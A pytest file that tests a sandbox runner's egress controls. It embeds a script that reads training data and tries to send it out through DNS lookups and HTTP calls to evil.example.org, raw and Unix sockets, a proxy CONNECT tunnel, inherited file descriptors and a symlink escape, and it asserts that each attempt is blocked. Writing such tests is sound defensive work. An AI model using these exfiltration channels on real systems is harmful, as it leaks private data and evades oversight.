"""A script that wants its data out: by name service, web, sockets, links, descriptors, bulk."""

import json
import os
import socket

import pytest
from app_house import needs_room
from egress_house import HOST, Sink, provenance, write_settings

pytestmark = needs_room

THIEF = """\
import json, os, socket, subprocess, urllib.request
secret = open("data/train.csv").read()
said = {}
def attempt(name, act):
    try:
        said[name] = str(act())
    except Exception as error:
        said[name] = "stopped: " + type(error).__name__

def dns():
    return socket.getaddrinfo(secret[:20].encode().hex() + ".evil.example.org", 443)

def dns_packet():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.sendto(secret[:100].encode(), ("127.0.0.1", SINK))
        return one.recv(10)

def web():
    where = "http://evil.example.org/" + secret[:20].encode().hex()
    return urllib.request.urlopen(where, timeout=5)

def web_direct():
    with socket.create_connection(("127.0.0.1", SINK), 3) as one:
        one.sendall(secret.encode())
        return "sent"

def granted_host_too_much():
    from urllib.parse import urlsplit
    proxy = urlsplit(os.environ["HTTP_PROXY"])
    with socket.create_connection((proxy.hostname, proxy.port), 5) as one:
        one.sendall(b"CONNECT HOST:SINK HTTP/1.1\\r\\nHost: HOST:SINK\\r\\n\\r\\n")
        if b" 200 " not in one.recv(200):
            return "denied"
        for _ in range(1000):
            one.sendall(secret.encode() * 50)
        return "all of it"

def unix_socket():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("UNIX")
        one.sendall(secret.encode())
        return "sent"

def abstract_socket():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\\0ABSTRACT")
        one.sendall(secret.encode())
        return "sent"

def descriptor():
    for fd in range(3, 256):
        try:
            os.write(fd, secret.encode())
            return f"wrote to {fd}"
        except OSError:
            pass
    raise OSError

def link():
    os.symlink("OUTSIDE", "stolen.txt")
    open("stolen.txt", "w").write(secret)

def fifo():
    os.mkfifo("pipe")

def bulk():
    with open("checkpoint.bin", "wb") as out:
        for _ in range(64):
            out.write(os.urandom(1 << 20))
    return "written"

for name, act in (("dns", dns), ("dns_packet", dns_packet), ("web", web), ("direct", web_direct),
                  ("unix", unix_socket), ("abstract", abstract_socket), ("fd", descriptor),
                  ("link", link), ("fifo", fifo), ("granted", granted_host_too_much),
                  ("bulk", bulk)):
    attempt(name, act)
if os.path.exists("checkpoint.bin"):
    os.unlink("checkpoint.bin")
json.dump(said, open("model.json", "w"))
"""


@pytest.fixture
def theft(project, tmp_path, sink):
    """The script, run with one granted host; what it says of itself, and where things went."""
    outside = tmp_path / "outside.txt"
    listeners = []
    for address in (str(tmp_path / "host.sock"), "\0sealwright-exfiltration-test"):
        one = socket.socket(socket.AF_UNIX)
        one.bind(address)
        one.listen()
        listeners.append(one)
    granted = Sink()
    leak = os.open(tmp_path / "inherited.txt", os.O_WRONLY | os.O_CREAT)
    os.set_inheritable(leak, True)
    write_settings(
        project,
        f'[room]\noutput = "16MiB"\n[egress.hub]\nhost = "{HOST}"\nports = [{granted.port}]\n'
        'private = true\nbytes = "64KiB"\n',
    )
    script = THIEF.replace("HOST:SINK", f"{HOST}:{granted.port}").replace("SINK", str(sink.port))
    script = script.replace("UNIX", str(tmp_path / "host.sock"), 2).replace("OUTSIDE", str(outside))
    script = script.replace("AF_" + str(tmp_path / "host.sock"), "AF_UNIX")
    script = script.replace("ABSTRACT", "sealwright-exfiltration-test")
    project.write("train.py", script)
    code, body, err = project.seal(
        "run", "--model", "model.json", "--name", "fraud",
        "--network", f"allow:{HOST}:{granted.port}", "--", "python", "train.py",
    )  # fmt: skip
    os.close(leak)
    for one in listeners:
        one.setblocking(False)
    reached = [_reached(one) for one in listeners]
    for one in listeners:
        one.close()
    granted.close()
    assert code == 0, (body, err)
    said = json.loads((project.root / "model.json").read_text())
    return {
        "said": said,
        "findings": {one["rule"]: one["message"] for one in body["runs"][0]["findings"]},
        "reached": reached,
        "granted": granted,
        "outside": outside,
        "inherited": (tmp_path / "inherited.txt").read_bytes(),
    }


def _reached(listener: socket.socket) -> bool:
    try:
        listener.accept()
    except BlockingIOError:
        return False
    return True


def test_nothing_leaves_and_every_attempt_that_can_be_seen_is_a_finding(theft, sink, project):
    said, findings = theft["said"], theft["findings"]
    for way in ("dns", "dns_packet", "web", "direct", "unix", "abstract", "fifo", "bulk"):
        if way != "fifo":
            assert said[way].startswith("stopped"), (way, said)
    assert sink.connections == 0 and theft["reached"] == [False, False]
    assert theft["inherited"] == b"" and not theft["outside"].exists()
    assert not (project.root / "stolen.txt").exists() and not (project.root / "pipe").exists()
    assert len(theft["granted"].received) <= 64 << 10
    assert {"egress.not-granted", "egress.budget", "room.output-special"} <= set(findings)
    assert "evil.example.org" in findings["egress.not-granted"]


def test_the_record_holds_counts_and_no_contents(theft, project):
    told = json.dumps(provenance(project))
    rows = (project.root / "data" / "train.csv").read_text()
    assert "evil.example.org" in told
    assert rows[:20].encode().hex() not in told


def test_a_huge_checkpoint_stops_at_the_byte_budget(project):
    write_settings(project, '[room]\noutput = "8MiB"\n')
    project.write(
        "train.py",
        "import os\nwith open('checkpoint.bin', 'wb') as out:\n"
        "    for _ in range(64): out.write(os.urandom(1 << 20))\n",
    )
    code, body, _ = project.seal("run", "--model", "checkpoint.bin", "--", "python", "train.py")
    assert code == 2 and "more than it may" in body["error"]["what"]
    assert not (project.root / "checkpoint.bin").exists()
